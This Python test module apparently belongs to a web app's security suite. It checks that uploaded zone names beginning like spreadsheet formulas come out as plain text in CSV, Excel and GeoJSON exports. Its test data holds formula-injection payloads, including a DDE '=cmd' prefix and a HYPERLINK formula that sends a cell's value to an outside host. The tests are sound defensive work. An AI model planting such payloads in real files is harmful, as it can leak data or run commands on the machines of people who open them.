"""Names that begin like a formula: a list with them goes in, and what comes out for a spreadsheet is text."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Callable, Iterator, Sequence
from typing import Any
from urllib.parse import parse_qs

import openpyxl

from loaders.snapshot.reader import Snapshot
from loaders.snapshot.upkeep.store import default_snapshot
from pages.shell.state import State
from tests.attacks.attack import Attack, Seen
from tests.attacks.target import AttackedServer, data_url

LEADS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\u200b=",
    "\u2060@",
    "naam;=",
    "naam;@",
    "=1+1+",
    "=cmd|' /C '!",
)
NAMES = (*(f"{lead}zone{n}" for n, lead in enumerate(LEADS)), '=HYPERLINK("https://a.example/?x="&A1,"naam")')
_SAFE = "the name as text"
_read: dict[int, dict[str, Any]] = {}


def _as_read(name: str) -> str:
    """The name as a list has it once it is read: without signs that nobody sees."""
    return name.replace("\u200b", "").replace("\u2060", "")


def _zones(names: Sequence[str]) -> bytes:
    """A list of own zones, one municipality in each."""
    codes = Snapshot(default_snapshot()).zones("municipality", 2025)["zone_id"].tolist()
    out = io.StringIO()
    lines = csv.writer(out)
    lines.writerow(("nis", "zone"))
    lines.writerows(zip(codes, names, strict=False))
    return out.getvalue().encode()


def taken_in(target: AttackedServer, names: Sequence[str] = NAMES) -> dict[str, str]:
    """Choices of a view of zones with these names."""
    columns = [{"id": {"type": "list-column", "at": at}, "property": "value"} for at in range(2)]
    given = {
        "list-file.contents": data_url(_zones(names)),
        "list-file.filename": "zones.csv",
        "list-kind.value": "zones",
        "data-state.data": State().__dict__,
        "list-geocode.checked": False,
        "list-fixes.data": {},
    }
    output = next(name for name in target.dependencies if name.startswith("list-used.href"))
    one = target.dependencies[output]

    def part(declared: dict[str, Any]) -> Any:
        if "list-use" in declared["id"]:
            return [{"id": {"type": "list-use", "kind": "zones"}, "property": "n_clicks", "value": 1}]
        if "list-column" in declared["id"]:
            fields = ("nis", "zone_id")
            return [{**column, "value": field} for column, field in zip(columns, fields, strict=True)]
        name = f"{declared['id']}.{declared['property']}"
        return {"id": declared["id"], "property": declared["property"], "value": given[name]}

    body = {
        "output": output,
        "outputs": {"id": "list-used", "property": "href"},
        "inputs": [part(declared) for declared in one["inputs"]],
        "state": [part(declared) for declared in one["state"]],
        "changedPropIds": [],
    }
    href = target.post("/_dash-update-component", body).json["response"]["list-used"]["href"]
    query = {name: values[0] for name, values in parse_qs(href.partition("?")[2]).items()}
    return {**State().__dict__, "model": "crow", **query}


def _files(target: AttackedServer) -> dict[str, Any]:
    """Both files of one list, made once for a server."""
    if id(target) not in _read:
        choices = taken_in(target)
        found: dict[str, Any] = {}
        for form in ("csv", "xlsx", "geojson"):
            wanted = {"form": form, "ids": None, "indicator": "births"}
            answer = target.callback("file.data", wanted=wanted, choices=choices)
            found[form] = base64.b64decode(answer.json["response"]["file"]["data"]["content"])
        _read[id(target)] = found
    return _read[id(target)]


def _in_csv(name: str) -> Callable[[AttackedServer], Seen]:
    def attempt(target: AttackedServer) -> Seen:
        lines = _files(target)["csv"].decode().splitlines(keepends=True)
        rows = list(csv.DictReader(line for line in lines if not line.startswith("# ")))
        cells = [row[column] for row in rows for column in ("zone_id", "zone_name")]
        wanted = _as_read(name).replace("'", "").lower()
        found = {cell for cell in cells if cell.replace("'", "").lower() == wanted}
        safe = found and all("'" in cell and cell not in NAMES for cell in found)
        return Seen(_SAFE if safe else "a formula" if found else "gone", str(sorted(found)))

    return attempt


def _told(target: AttackedServer) -> Seen:
    told = [line for line in _files(target)["csv"].decode().splitlines() if line.startswith("# ") and "(')" in line]
    return Seen("told once" if len(told) == 1 else "not told", " ".join(told))


def _numbers(target: AttackedServer) -> Seen:
    lines = _files(target)["csv"].decode().splitlines(keepends=True)
    rows = list(csv.DictReader(line for line in lines if not line.startswith("# ")))
    cells = [row[column] for row in rows for column in ("births", "births_out_of_reach")]
    return Seen("numbers" if cells and all(float(cell or 0) >= 0 for cell in cells) else "texts")


def _in_excel(target: AttackedServer) -> Seen:
    sheet = openpyxl.load_workbook(io.BytesIO(_files(target)["xlsx"])).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    formulas = [cell for cell in cells if cell.data_type == "f"]
    as_given = {str(cell.value).lower() for cell in cells} >= {_as_read(name).lower() for name in NAMES}
    return Seen(_SAFE if not formulas and as_given else "a formula")


def _in_geojson(target: AttackedServer) -> Seen:
    names = {one["properties"]["zone_name"].lower() for one in json.loads(_files(target)["geojson"])["features"]}
    return Seen("unchanged" if names >= {_as_read(name).lower() for name in NAMES} else "changed")


def _rows() -> Iterator[Attack]:
    for n, name in enumerate(NAMES):
        key, tried = f"formula-csv-{n}", f"a zone of the name {name.encode('ascii', 'backslashreplace').decode()}"
        yield Attack(key, "upload", tried, _SAFE, _in_csv(name))
    for key, tried, expected, attempt in (
        ("told", "the same zones: what the file says", "told once", _told),
        ("numbers", "the same zones: their figures", "numbers", _numbers),
        ("excel", "the same zones as an Excel file", _SAFE, _in_excel),
        ("geojson", "the same zones as GeoJSON", "unchanged", _in_geojson),
    ):
        yield Attack(f"formula-{key}", "upload", tried, expected, attempt)


ROWS = tuple(_rows())
